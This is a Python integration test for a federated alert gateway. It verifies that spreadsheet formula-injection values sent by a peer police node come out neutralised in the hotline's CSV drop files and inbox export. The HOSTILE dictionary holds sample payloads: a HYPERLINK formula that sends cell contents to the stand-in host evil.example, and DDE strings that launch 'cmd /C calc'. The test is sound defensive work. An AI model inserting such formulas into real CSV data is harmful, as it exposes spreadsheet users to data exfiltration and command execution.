"""CSV injection through real gateways: a peer's alert whose text a spreadsheet would run as a
formula reaches the hotline's CSV drop folder and its CSV inbox export neutralised (quoted,
with a leading `'`), and the export still decodes to the peer's text."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path
from typing import Any

import aiohttp

from adapters.hotline_111_csv import ADAPTER as CSV
from gateway.wire import canonical
from tests.federation.harness import Federation, alert, local_client

POLICE, RATANAKIRI = "vn-gialai-police", "kh-ratanakiri-police"
# One per dangerous first character (tab and CR are white space, which values never keep).
HOSTILE = {
    "summary": '=HYPERLINK("http://evil.example/?"&A1;"Bấm vào")',
    "place": "+1+2",
    "victim": "-2+3+cmd' /C calc'!A0",
    "caller": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _hostile_alert() -> canonical.Message:
    message = alert("KH-INJ-1")
    body = message.hotline_alert
    body.summary = HOSTILE["summary"]
    body.place = HOSTILE["place"]
    body.caller.name = HOSTILE["caller"]
    body.persons.add(role=canonical.ROLE_VICTIM, person=canonical.Person(name=HOSTILE["victim"]))
    return message


async def _wait_for_file(folder: Path) -> Path:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        found = sorted(folder.glob("*.csv")) if folder.exists() else []
        if found:
            return found[0]
        await asyncio.sleep(0.2)
    raise AssertionError(f"no CSV file in {folder}")


async def _inbox_export(federation: Federation, token: str) -> dict[str, Any]:
    url = f"http://127.0.0.1:{federation.nodes[POLICE].api_port}/api/v1/inbox"
    async with (
        aiohttp.ClientSession() as session,
        session.get(
            url, params={"format": "hotline-111-csv"}, headers={"Authorization": f"Bearer {token}"}
        ) as response,
    ):
        page: dict[str, Any] = await response.json()
    [item] = page["messages"]
    assert isinstance(item, dict)
    return item


def _assert_neutralised(data: bytes) -> None:
    text = data.decode("utf-8-sig")
    for value in HOSTILE.values():
        at = text.index(value.replace('"', '""'))
        assert text[at - 2 : at] == "\"'", (value, text[at - 10 : at + 10])
    decoded = CSV.decode(data).messages[0].message.hotline_alert
    assert decoded.summary == HOSTILE["summary"]
    assert decoded.place == HOSTILE["place"]
    assert decoded.persons[0].person.name == HOSTILE["victim"]
    assert decoded.caller.name == HOSTILE["caller"]


async def test_formulas_from_a_peer_are_neutralised_in_drop_files_and_inbox_exports(
    federation: Federation, tmp_path: Path
) -> None:
    token, hotline = local_client("hotline-111", ["hotline-111-csv"], ["hotline_alert"])
    drop_folder = tmp_path / "hotline-in"
    hotline["delivery"] = {"type": "drop_folder", "path": str(drop_folder)}
    await federation.add(POLICE, RATANAKIRI)
    federation.sections[POLICE] = {"local_clients": [hotline]}
    for node in (POLICE, RATANAKIRI):
        federation.write_config(node)
        federation.start(node)
        await federation.wait_ready(node)

    await federation.send(RATANAKIRI, POLICE, [_hostile_alert()])

    dropped = (await _wait_for_file(drop_folder)).read_bytes()
    _assert_neutralised(dropped)
    assert "\"'=HYPERLINK(" in dropped.decode("utf-8-sig")
    export = await _inbox_export(federation, token)
    _assert_neutralised(export["document"].encode())
